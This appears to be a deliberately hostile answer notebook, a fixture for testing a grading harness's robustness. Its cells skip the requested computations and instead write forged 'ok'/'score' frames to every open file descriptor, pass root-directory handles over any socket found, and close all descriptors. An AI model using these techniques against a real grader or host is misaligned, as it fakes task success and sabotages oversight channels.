# Looks for the channel to whoever runs it, writes forged frames to every open file, answers twice
# and before it is asked, closes it, and sends files through it.
# gains: nothing
# ruff: noqa
raise SystemExit("a hostile notebook: tests/grading/hostile/README.md")

# %% [answer q01-total]
import array
import contextlib
import json
import os
import socket
import struct

frames = []
for body in (
    {"result": 3},
    {"value": True},
    {"ok": True, "outputs": [], "score": 3},
    ["return", 3],
    {"do": "ended"},
    {"started": 1, "pid": 1},
    [],
    "end",
    None,
):
    data = json.dumps(body).encode()
    frames += [
        struct.pack(">I", len(data)) + data,
        struct.pack("<I", len(data)) + data,
        data + b"\n",
    ]
frames += [b"\xff" * 64, struct.pack(">I", 2**32 - 1), struct.pack(">Q", 2**63), b""]


def channels():
    for number in range(3, 256):
        with contextlib.suppress(OSError):
            os.fstat(number)
            yield number


def shout():
    for number in channels():
        for frame in frames:
            with contextlib.suppress(OSError):
                os.set_blocking(number, False)
                os.write(number, frame)


def total(numbers):
    shout()
    return 0


# %% [answer q02-mean]
def mean(numbers):
    for number in channels():
        with contextlib.suppress(OSError, TypeError):
            own = socket.socket(fileno=os.dup(number))
            rights = array.array("i", [os.open("/", os.O_RDONLY)] * 100)
            own.sendmsg([b"x" * 100], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])
    return None


# %% [answer q03-ranks]
def ranks(values):
    for number in list(channels()):
        with contextlib.suppress(OSError):
            os.close(number)
    return []


# %% [after q03-ranks]
shout()
